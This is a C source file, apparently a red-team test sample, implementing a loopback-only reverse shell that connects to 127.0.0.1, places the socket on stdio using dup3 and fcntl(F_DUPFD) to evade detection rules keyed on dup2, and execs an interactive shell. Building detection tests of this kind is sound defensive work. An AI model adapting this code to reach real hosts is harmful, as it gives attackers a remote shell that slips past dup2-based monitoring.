/* c_dup3_fcntl.c: a reverse shell in C that puts its socket on stdio with dup3 and
 * fcntl(F_DUPFD) instead of dup2, so the red-team suite covers the dup routes a dup2-only rule
 * misses. Loopback only: it refuses any address outside 127.0.0.0/8.
 *   c_dup3_fcntl PORT [SHELL]   connect to 127.0.0.1:PORT; fd 0 by dup3, fd 1 by fcntl(F_DUPFD, 1)
 *                               after close(1), fd 2 by dup3; then exec SHELL (default /bin/sh). */
#define _GNU_SOURCE /* dup3 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int connect_loopback(const char *port_arg)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	char *end;
	long port = strtol(port_arg, &end, 10);
	int s;

	if (*port_arg == '\0' || *end != '\0' || port <= 0 || port > 65535) {
		fprintf(stderr, "c_dup3_fcntl: bad port '%s'\n", port_arg);
		return -1;
	}
	sa.sin_port = htons((unsigned short)port);
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0 || connect(s, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		fprintf(stderr, "c_dup3_fcntl: connect 127.0.0.1:%ld: %s\n", port, strerror(errno));
		return -1;
	}
	return s;
}

/* Socket onto 0 (dup3), 1 (close + fcntl F_DUPFD, lowest free fd >= 1 is 1) and 2 (dup3). */
static int socket_to_stdio(int s)
{
	if (dup3(s, 0, 0) != 0)
		return -1;
	close(1);
	if (fcntl(s, F_DUPFD, 1) != 1)
		return -1;
	if (dup3(s, 2, 0) != 2)
		return -1;
	return close(s);
}

int main(int argc, char **argv)
{
	const char *shell = argc > 2 ? argv[2] : "/bin/sh";
	int s;

	if (argc < 2 || argc > 3) {
		fprintf(stderr, "usage: c_dup3_fcntl PORT [SHELL]\n");
		return 2;
	}
	s = connect_loopback(argv[1]);
	if (s < 0)
		return 1;
	if (socket_to_stdio(s) < 0) {
		/* stderr may be the socket by now; the listener then sees the message */
		fprintf(stderr, "c_dup3_fcntl: moving the socket onto stdio: %s\n", strerror(errno));
		return 1;
	}
	execl(shell, shell, "-i", (char *)NULL);
	fprintf(stderr, "c_dup3_fcntl: exec %s: %s\n", shell, strerror(errno));
	return 1;
}
